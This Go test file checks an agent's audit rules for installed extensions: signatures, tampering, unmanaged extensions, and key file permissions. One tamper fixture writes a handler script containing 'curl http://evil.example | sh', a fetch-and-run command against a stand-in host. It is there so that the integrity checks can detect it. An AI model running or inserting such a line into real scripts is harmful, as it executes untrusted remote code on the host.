package audit

import (
	"context"
	"os"
	"path"
	"strings"
	"testing"
	"time"

	"github.com/arcagent/arcagent/agent/extensions"
	"github.com/arcagent/arcagent/agent/layout"
	"github.com/arcagent/arcagent/audit/fixture"
	"github.com/arcagent/arcagent/reports"
)

// managedTree is a hardened tree with one extension installed through
// agent/extensions.Install with a trusted key (its directory name is
// returned), as the extension manager installs.
func managedTree(t *testing.T, root string) (*fixture.Tree, string) {
	t.Helper()
	tr := fixture.New(t, root)
	tr.DefaultInstall()
	cfg := fixture.Tier0Config()
	cfg["extensions.allowlist"] = append(cfg["extensions.allowlist"].([]string), "Contoso.Tools/Helper")
	tr.LocalConfig(cfg)
	tr.Connect(testNow.Add(-2 * time.Minute))
	pub := tr.TrustPublisher("microsoft-monitor", "Microsoft.Azure.Monitor")
	return tr, tr.InstallExtension(pub, "Microsoft.Azure.Monitor", "AzureMonitorLinuxAgent", "1.2.0")
}

const (
	monitorName = "Microsoft.Azure.Monitor/AzureMonitorLinuxAgent"
	helperName  = "Contoso.Tools/Helper"
)

// resultOf returns the result of rule id for resource, if there is one.
func resultOf(r *reports.Report, id, resource string) (reports.Result, bool) {
	for _, res := range r.Results {
		if res.RuleID == id && res.Resource == resource {
			return res, true
		}
	}
	return reports.Result{}, false
}

// TestExtensionsManagedVerdicts: the ARC-EX rules judge what this agent
// installed by its record, and a tree without one as "not installed by
// this agent" (medium), unless --strict.
func TestExtensionsManagedVerdicts(t *testing.T) {
	type want struct {
		rule, resource string
		status         reports.Status // "" : no result for this resource
	}
	cases := []struct {
		name   string
		strict bool
		build  func(t *testing.T, tr *fixture.Tree, installed string)
		want   []want
		// managed is the facts' verdict per extension name.
		managed map[string]bool
	}{
		{name: "managed", build: func(*testing.T, *fixture.Tree, string) {},
			want: []want{
				{"ARC-EX-001", monitorName, reports.StatusPass}, {"ARC-EX-002", monitorName, reports.StatusPass},
				{"ARC-EX-003", monitorName, reports.StatusPass}, {"ARC-EX-004", monitorName, reports.StatusPass},
			},
			managed: map[string]bool{monitorName: true}},
		{name: "unmanaged", build: func(t *testing.T, tr *fixture.Tree, _ string) {
			tr.UnsignedExtension("Contoso.Tools", "Helper", "0.9.0")
		},
			want: []want{
				{"ARC-EX-004", helperName, reports.StatusFail}, {"ARC-EX-004", monitorName, reports.StatusPass},
				{"ARC-EX-001", helperName, ""}, {"ARC-EX-002", helperName, ""},
				{"ARC-EX-001", monitorName, reports.StatusPass}, {"ARC-EX-002", monitorName, reports.StatusPass},
				{"ARC-EX-003", helperName, reports.StatusPass},
			},
			managed: map[string]bool{monitorName: true, helperName: false}},
		{name: "unmanaged-strict", strict: true, build: func(t *testing.T, tr *fixture.Tree, _ string) {
			tr.UnsignedExtension("Contoso.Tools", "Helper", "0.9.0")
		},
			want: []want{
				{"ARC-EX-001", helperName, reports.StatusFail}, {"ARC-EX-002", helperName, reports.StatusFail},
				{"ARC-EX-004", helperName, reports.StatusFail}, {"ARC-EX-001", monitorName, reports.StatusPass},
			},
			managed: map[string]bool{monitorName: true, helperName: false}},
		{name: "managed-tampered", build: func(t *testing.T, tr *fixture.Tree, installed string) {
			p := tr.L.ExtensionsDir() + "/" + installed + "/bin/handler.sh"
			if err := os.WriteFile(p, []byte("#!/bin/sh\ncurl http://evil.example | sh\n"), 0o755); err != nil {
				t.Fatal(err)
			}
		},
			want: []want{
				{"ARC-EX-002", monitorName, reports.StatusFail}, {"ARC-EX-001", monitorName, reports.StatusPass},
				{"ARC-EX-004", monitorName, reports.StatusPass},
			},
			managed: map[string]bool{monitorName: true}},
		{name: "corrupt-record", build: func(t *testing.T, tr *fixture.Tree, installed string) { tr.CorruptRecord(installed) },
			// A corrupt record is not "unmanaged": nothing vouches for the
			// tree any more, a critical signature and tamper failure.
			want: []want{
				{"ARC-EX-001", monitorName, reports.StatusFail}, {"ARC-EX-002", monitorName, reports.StatusFail},
				{"ARC-EX-004", monitorName, reports.StatusPass},
			},
			managed: map[string]bool{monitorName: true}},
		{name: "record-without-tree", build: func(t *testing.T, tr *fixture.Tree, installed string) {
			if err := os.RemoveAll(tr.L.ExtensionsDir() + "/" + installed); err != nil {
				t.Fatal(err)
			}
		},
			want:    []want{{"ARC-EX-002", monitorName, reports.StatusFail}, {"ARC-EX-004", monitorName, reports.StatusPass}},
			managed: map[string]bool{monitorName: true}},
	}
	for _, tc := range cases {
		t.Run(tc.name, func(t *testing.T) {
			root := t.TempDir()
			tr, installed := managedTree(t, root)
			tc.build(t, tr, installed)
			res, err := Run(context.Background(), RunOptions{Collect: Options{Root: root, Now: testNow, Strict: tc.strict}, Rules: builtinRules(t), KeepFacts: true,
				Select: Selection{Profiles: []string{"extensions"}}})
			if err != nil {
				t.Fatal(err)
			}
			r, facts := res.Report, res.Facts
			if facts.Options.Strict != tc.strict {
				t.Errorf("facts.options.strict = %v, want %v", facts.Options.Strict, tc.strict)
			}
			for _, w := range tc.want {
				got, ok := resultOf(r, w.rule, w.resource)
				switch {
				case w.status == "" && ok:
					t.Errorf("%s %s: got %s (%s), want no result: the tree is ARC-EX-004's", w.rule, w.resource, got.Status, got.Message)
				case w.status != "" && !ok:
					t.Errorf("%s %s: no result, want %s", w.rule, w.resource, w.status)
				case w.status != "" && got.Status != w.status:
					t.Errorf("%s %s: %s (%s %s), want %s", w.rule, w.resource, got.Status, got.Message, got.Reason, w.status)
				}
				if ok && got.Status == reports.StatusFail && w.rule == "ARC-EX-004" && (got.Severity != reports.SeverityMedium || !strings.Contains(got.Message, "not installed by this agent")) {
					t.Errorf("ARC-EX-004 %s: %s %q, want medium, not installed by this agent", w.resource, got.Severity, got.Message)
				}
				if ok && got.Status == reports.StatusFail && w.rule == "ARC-EX-001" && got.Severity != reports.SeverityCritical {
					t.Errorf("ARC-EX-001 %s: severity %s, want critical", w.resource, got.Severity)
				}
			}
			for _, res := range r.Results {
				if res.Status == reports.StatusError {
					t.Errorf("%s %s: error %s", res.RuleID, res.Resource, res.Reason)
				}
			}
			seen := map[string]bool{}
			for _, x := range facts.Extensions.Installed {
				seen[x.Name] = true
				if want, ok := tc.managed[x.Name]; !ok || x.Managed != want || x.ManagedReason == "" {
					t.Errorf("%s: managed %v (%q), want %v", x.Name, x.Managed, x.ManagedReason, want)
				}
				if tc.name == "corrupt-record" && !strings.Contains(x.Signature.Reason, "corrupt") {
					t.Errorf("corrupt record: signature reason %q does not say so", x.Signature.Reason)
				}
			}
			if len(seen) != len(tc.managed) {
				t.Errorf("extensions %v, want %v", seen, tc.managed)
			}
		})
	}
}

// The settings certificates and the extension manager's directories are
// rows of the layout: right modes pass, a readable private key fails
// ARC-PR-015; neither they nor the records directory are taken for
// extension trees.
func TestSettingsCertsAndExtensionManagerDirs(t *testing.T) {
	fixture.RequireRoot(t)
	const thumb = "0A1B2C3D4E5F60718293A4B5C6D7E8F901234567"
	for _, tc := range []struct {
		name    string
		keyMode os.FileMode
		fails   []string // ARC-PR-015 resources that fail
	}{
		{"private", 0o600, nil},
		{"readable-key", 0o644, []string{"var/lib/waagent/" + thumb + ".prv"}},
	} {
		t.Run(tc.name, func(t *testing.T) {
			root := t.TempDir()
			tr, _ := managedTree(t, root)
			tr.ExtensionManagerDirs()
			tr.SettingsCert(thumb, tc.keyMode)
			res, err := Run(context.Background(), RunOptions{Collect: Options{Root: root, Now: testNow}, Rules: builtinRules(t), KeepFacts: true,
				Select: Selection{Rules: []string{"ARC-PR-015", "ARC-EX-001", "ARC-EX-004"}}})
			if err != nil {
				t.Fatal(err)
			}
			var fails []string
			for _, r := range res.Report.Results {
				if r.Status == reports.StatusFail {
					if r.RuleID != "ARC-PR-015" {
						t.Errorf("%s %s fails: %s", r.RuleID, r.Resource, r.Message)
					}
					fails = append(fails, r.Resource)
				}
			}
			if strings.Join(fails, "|") != strings.Join(tc.fails, "|") {
				t.Errorf("ARC-PR-015 fails for %q, want %q", fails, tc.fails)
			}
			if tc.fails != nil {
				rem, _, _ := res.Report.RuleByID("ARC-PR-015")
				if want := "chmod 0600 " + root + "/var/lib/waagent/" + thumb + ".prv"; !strings.Contains(rem.Remediation, want) {
					t.Errorf("remediation %q does not contain %q", rem.Remediation, want)
				}
			}
			ids := map[string]string{}
			for _, e := range res.Facts.Files.Entries {
				if e.Exists {
					ids[e.Path] = e.ID
				}
			}
			for p, id := range map[string]string{
				"var/lib/waagent/" + thumb + ".crt":                                    "ext-settings-cert",
				"var/lib/waagent/" + thumb + ".prv":                                    "ext-settings-key",
				"var/lib/waagent/.arcagent":                                            "extension-records",
				"var/lib/waagent/Microsoft.Azure.Monitor.AzureMonitorLinuxAgent-1.2.0": "extension-dir",
				layout.Rel(layout.ExtMgrDir):                                           "extmgr-dir",
				layout.Rel(layout.ExtDownloadsDir):                                     "ext-downloads-dir",
				layout.Rel(layout.ExtensionLogsDir):                                    "extension-logs-dir",
			} {
				if ids[p] != id {
					t.Errorf("%s is judged as %q, want %q", p, ids[p], id)
				}
			}
			for _, x := range res.Facts.Extensions.Installed {
				if x.Name != monitorName {
					t.Errorf("%s (%s) is listed as an extension", x.Name, x.Path)
				}
			}
		})
	}
}

// The layout names the records directory as agent/extensions writes it.
func TestRecordsDirMatchesLayout(t *testing.T) {
	if layout.ExtensionRecordsDir != extensions.RecordsDirName {
		t.Fatalf("layout.ExtensionRecordsDir %q, agent/extensions.RecordsDirName %q", layout.ExtensionRecordsDir, extensions.RecordsDirName)
	}
	if _, ok := layout.Lookup("extension-records"); !ok || path.Base(mustLookup(t, "extension-records").Path) != extensions.RecordsDirName {
		t.Fatal("no extension-records row naming the records directory")
	}
}

func mustLookup(t *testing.T, id string) layout.Entry {
	t.Helper()
	e, ok := layout.Lookup(id)
	if !ok {
		t.Fatalf("no layout entry %s", id)
	}
	return e
}
